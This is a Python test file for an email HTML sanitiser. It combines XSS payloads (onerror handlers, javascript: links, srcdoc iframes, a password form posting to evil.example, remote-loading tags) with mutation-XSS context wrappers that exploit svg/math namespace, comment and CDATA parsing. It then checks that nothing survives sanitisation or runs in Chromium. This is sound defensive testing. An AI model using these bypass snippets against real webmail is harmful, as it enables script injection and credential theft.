"""V-78, ammonia CVE-2021-38193, Roundcube CVE-2024-37383: HTML that becomes something else when it is read a second time.

What we show of a mail's HTML is the page of `postroom mail show --html`; letters quote its text. Every snippet here is a context
that changes how what follows is read, around a payload that would run, load or send something. A browser has the last word.
"""

import re
import shutil
from collections.abc import Iterator
from typing import Any

import pytest
from selectolax.lexbor import LexborHTMLParser, LexborNode

from gateway.mail import sanitise

PAYLOADS = {
    "picture": "<img src=x onerror=window.hit=1>",
    "script": "<script>window.hit=1</script>",
    "shapes": '<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s><set attributeName=href>',
    "frame": '<iframe srcdoc="<script>parent.hit=1</script>" src="https://evil.example/"></iframe>',
    "link": '<a href="java&Tab;script:window.hit=1" style="position:fixed;inset:0;background:url(https://evil.example/)">x</a>',
    "form": '<form action="https://evil.example/" id=f><input name=password autofocus onfocus=window.hit=1>',
    "style": "<style>@import '//evil.example';b{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
    "remote": '<img src="//evil.example/a"><img srcset="//evil.example/b 1x"><video poster=//evil.example/c src=//evil.example/d>'
    "<table background=//evil.example/e><input type=image src=//evil.example/f><body background=//evil.example/g>",
    "closing": '"\'><img src=x onerror=window.hit=1>',
    "head": '<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/"><object data=//evil.example/>',
}  # fmt: skip
CONTEXTS = {
    "plain": "{}",
    "text of svg": "<svg><style>{}</style></svg>",
    "title of svg": "<svg><title>{}</title></svg><svg></p><title>{}",
    "foreign object": "<svg><foreignObject><math><mtext>{}</mtext></math></foreignObject></svg>",
    "closing p in svg": "<svg></p><style><a id=\"</style>{}\">",
    "math and table": "<math><mtext><table><mglyph><style><!--</style>{}--></mglyph></table></mtext></math>",
    "math and annotation": '<math><annotation-xml encoding="text/html"><style>{}</style></annotation-xml></math>',
    "mi and form": "<form><math><mtext></form><form><mglyph><style></math>{}</style></mglyph></form>",
    "noscript": '<noscript><p title="</noscript>{}">',
    "noembed": "<noembed><p title='</noembed>{}'></noembed>",
    "textarea": '<textarea><p title="</textarea>{}">',
    "title": '<title><a href="</title>{}">',
    "xmp": '<xmp><p title="</xmp>{}">',
    "plaintext": "<plaintext>{}",
    "template": "<template><p>{}</template><template shadowrootmode=open>{}</template>",
    "select": "<select><option><style></select>{}</style></option></select>",
    "comment": "<!--><!-- --!>{}-->",
    "comment of a browser": "<!--[if gte mso 9]>{}<![endif]--><![if !vml]>{}<![endif]>",
    "data section": "<svg><![CDATA[><a title=\"]]>{}\">]]></svg>",
    "doctype": '<!DOCTYPE a "{}">{}',
    "instruction": "<?xml version='1'?><?x >{}?>",
    "attribute": '<p title="{}">',
    "attribute of back quotes": "<p title=`{}`>",
    "attribute without quotes": "<p title=a/{}>",
    "attribute twice": '<p title=a title="{}">',
    "entities": "<p title='&quot;&gt;'>&lt;{}&gt;</p>",
    "entities twice": "<p>&amp;lt;img src=x onerror=window.hit=1&amp;gt;{}</p>",
    "table": "<table>{}<tr>{}<td>{}</table>",
    "links in links": "<a href='https://example.org'><table><a href='x'>{}</table>",
    "formatting": "<b><i><p></b>{}</i></p>",
    "frameset": "<frameset onload=window.hit=1><frame src=//evil.example>{}</frameset>",
    "a tag in a tag": "<<img <{}",
    "a null": "<im\0g src=x>\0{}",
    "a name": "<img name=cookie><form name=body><input name=parentNode></form>{}",
    "a namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script><o:p>{}</o:p>",
    "upside down": "</p></div></body></html>{}",
}  # fmt: skip
SNIPPETS = {
    f"{place} / {what}": frame.replace("{}", inner)
    for place, frame in CONTEXTS.items()
    for what, inner in PAYLOADS.items()
}
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def clean(markup: str) -> str:
    return sanitise.html(markup, cid={})


def elements(markup: str) -> Iterator[LexborNode]:
    """What a browser makes of a fragment in a page."""
    body = LexborHTMLParser(f"<!DOCTYPE html><html><body><div>{markup}</div></body></html>").body
    assert body is not None
    yield from (node for node in body.traverse() if node.tag and node.tag[0] not in "-!")


def tree(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    return [(str(node.tag), sorted(node.attributes.items())) for node in elements(markup)]


def harm(markup: str) -> list[str]:
    """Whatever in a fragment runs, loads, sends, or stands where it should not."""
    found = []
    for node in elements(markup):
        if node.tag not in sanitise._TAGS | {"body"}:  # the one of the page, with what was put on it
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            said = (value or "").strip().lower()
            bad = name.startswith("on") or name in (
                "id",
                "name",
                "srcset",
                "srcdoc",
                "action",
                "formaction",
                "background",
                "poster",
            )
            bad |= name == "href" and not re.match(r"(?:https?://|mailto:|tel:)[^\s]", said)
            bad |= name == "src" and not said.startswith("data:image/")
            bad |= name == "style" and bool(
                re.search(r"url|expression|position|import|@|\\|var\(|image-set|inset|z-index", said)
            )
            bad |= name == "class" and said != sanitise.TIGHT
            found += [f"<{node.tag} {name}={value}>"] if bad else []
    return found


def test_there_are_more_than_two_hundred() -> None:
    assert len(SNIPPETS) >= 300


@pytest.mark.parametrize("place", CONTEXTS)
def test_nothing_of_it_is_left(place: str) -> None:
    for what in PAYLOADS:
        shown = clean(SNIPPETS[f"{place} / {what}"])
        assert not harm(shown), (what, shown)
        # Read, written and read again, it is the same; and so is what was clean before.
        again = LexborHTMLParser(f"<div>{shown}</div>").css_first("div")
        assert again is not None
        assert tree(str(again.html)[5:-6]) == tree(shown), (what, shown)
        twice = clean(shown)
        assert tree(twice) == tree(shown), (what, shown, twice)
        assert sorted(twice) == sorted(shown), (what, shown, twice)  # in what order attributes stand is left to chance


def test_the_judge_sees_harm() -> None:
    """Each payload as it came is found by what judges here, and most snippets are."""
    assert not [what for what, markup in PAYLOADS.items() if not harm(markup)]
    assert sum(bool(harm(one)) for one in SNIPPETS.values()) > 0.8 * len(SNIPPETS)


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here")
def test_a_browser_runs_and_loads_nothing() -> None:
    """All of them in one page each way: as the page is written, and put in by a script. Without the policy of the real page."""
    from playwright.sync_api import sync_playwright

    from tests.peers.test_letters_look import ARGS

    shown = [clean(one) for one in SNIPPETS.values()]
    asked: list[str] = []
    pages = {
        "http://desk.example/": "".join(f"<div>{one}</div>" for one in shown),
        "http://desk.example/raw": "<div>" + "".join(payload for what, payload in PAYLOADS.items() if what != "head"),
    }

    def serve(route: Any) -> None:
        if route.request.url in pages:
            route.fulfill(
                body=f"<!DOCTYPE html><body>{pages[route.request.url]}", content_type="text/html; charset=utf-8"
            )
        else:
            asked.append(route.request.url)
            route.abort()

    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        page = browser.new_page()
        page.route("**/*", serve)
        page.goto("http://desk.example/")
        page.evaluate(PUT_IN, shown)
        page.evaluate("document.body.innerHTML = document.body.innerHTML")
        page.wait_for_timeout(200)
        assert page.evaluate("window.hit") is None
        assert not asked
        assert (
            page.evaluate(
                "document.querySelectorAll('script,svg,math,form,input,style,iframe,object,link,meta,base').length"
            )
            == 0
        )
        page.goto("http://desk.example/raw", wait_until="commit")  # and it would have told
        page.wait_for_timeout(200)
        assert page.evaluate("window.hit") == 1
        assert [one for one in asked if "evil.example" in one]
        browser.close()


PUT_IN = """all => all.forEach(one => {
  const box = document.createElement('div');
  box.innerHTML = one;
  document.body.append(box);
})"""
